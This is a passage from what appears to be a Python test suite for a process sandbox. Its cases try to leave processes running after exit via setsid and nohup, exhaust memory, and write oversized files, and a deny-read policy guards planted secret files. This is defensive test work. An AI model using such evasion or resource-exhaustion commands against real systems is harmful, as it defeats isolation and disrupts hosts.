        _and(_timed_out, _no_marker_left("1000.")),
        timeout=1,
    ),
    Case(
        "persistence-after-exit",
        "(sleep 1; touch {ws}/late1) & setsid sh -c 'sleep 1; touch {ws}/late2' & "
        "nohup sh -c 'sleep 1; touch {ws}/late3' >/dev/null 2>&1 & echo started",
        _and(_no_late_files, _out_has(b"started")),
    ),
    Case(
        "memory-cap",
        "{py} -c \"x = b'x' * (600 << 20); print('GOT', len(x))\"; echo one:$?; "
        "if grep -q 'memory:.*lockgate' /proc/self/cgroup; then echo MEMCG; "
        "for i in 1 2 3 4; do ({py} -c \"import time; x = b'x' * (100 << 20); time.sleep(1)\" "
        "&& echo ALIVE) & done; wait; fi",
        _memory_capped,
        policy={"memory": 256 << 20},
        timeout=60,
    ),
    Case(
        "file-size-limit",
        "head -c 3000000 /dev/zero > big; echo done",
        _fsize,
        policy={"max_file_size": 1 << 20},
    ),
)


# --------------------------------------------------------------------------- running a case


def base_policy(area: Area, **extra: Any) -> SandboxPolicy:
    from sandbox.policy import default_deny_read

    return SandboxPolicy(
        workspace=area.ws,
        deny_read=(*default_deny_read(), area.secret_dir, area.secret_file),
        # /var/tmp stays visible (read-only) so the test can see the host side of its area
        private_views=(Path("/run"), Path("/var/run")),
        **extra,
    )


@contextlib.contextmanager
def prepared(case: Case) -> Iterator[tuple[Area, dict[str, Any]]]:
    area = make_area()
    ctx: dict[str, Any] = {}
    try:
        if case.setup is not None:
            case.setup(area, ctx)
        yield area, ctx
    finally:
        destroy_area(area)


def run_case(case: Case, kernel: KernelSupport | None = None) -> list[str]:
    """Run one case in a fresh area and sandbox; returns the failures (empty: it held)."""
    missing = [n for n in case.needs if shutil.which(n) is None]
    if missing:
        return [f"SKIP: {', '.join(missing)} not installed"]
    with prepared(case) as (area, ctx):
        xdg = area.root / "xdg"
        xdg.mkdir()
        area.cleanups.append(_restore_env("XDG_RUNTIME_DIR", os.environ.get("XDG_RUNTIME_DIR")))
        os.environ["XDG_RUNTIME_DIR"] = str(xdg)
        if case.name == "network":
            _listeners(area, ctx)  # after XDG_RUNTIME_DIR points into the area
        for name, text in case.files:
            (area.ws / name).write_text(fill(text, area, ctx))
        with Sandbox(base_policy(area, **case.policy), kernel=kernel) as sb:
            r = sb.run(
                ["sh", "-c", fill(case.script, area, ctx)],
                timeout=case.timeout,
                max_output=4096 if case.name == "output-flood" else 1 << 20,
                stdin=case.stdin,
            )
        return case.check(area, r, ctx)
